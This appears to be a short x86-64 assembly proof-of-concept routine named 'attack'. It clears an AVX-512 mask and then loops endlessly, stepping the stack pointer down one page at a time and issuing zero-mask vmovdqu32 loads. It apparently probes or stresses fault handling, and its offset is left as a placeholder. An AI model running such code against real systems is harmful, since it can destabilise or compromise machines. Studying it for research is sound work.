function attack
    kxorw %k1,%k1,%k1
1:  lea -0x1000(%rsp),%rsp
    vmovdqu32 -OFF(%rsp),%zmm0{%k1}
    jmp 1b
    ret
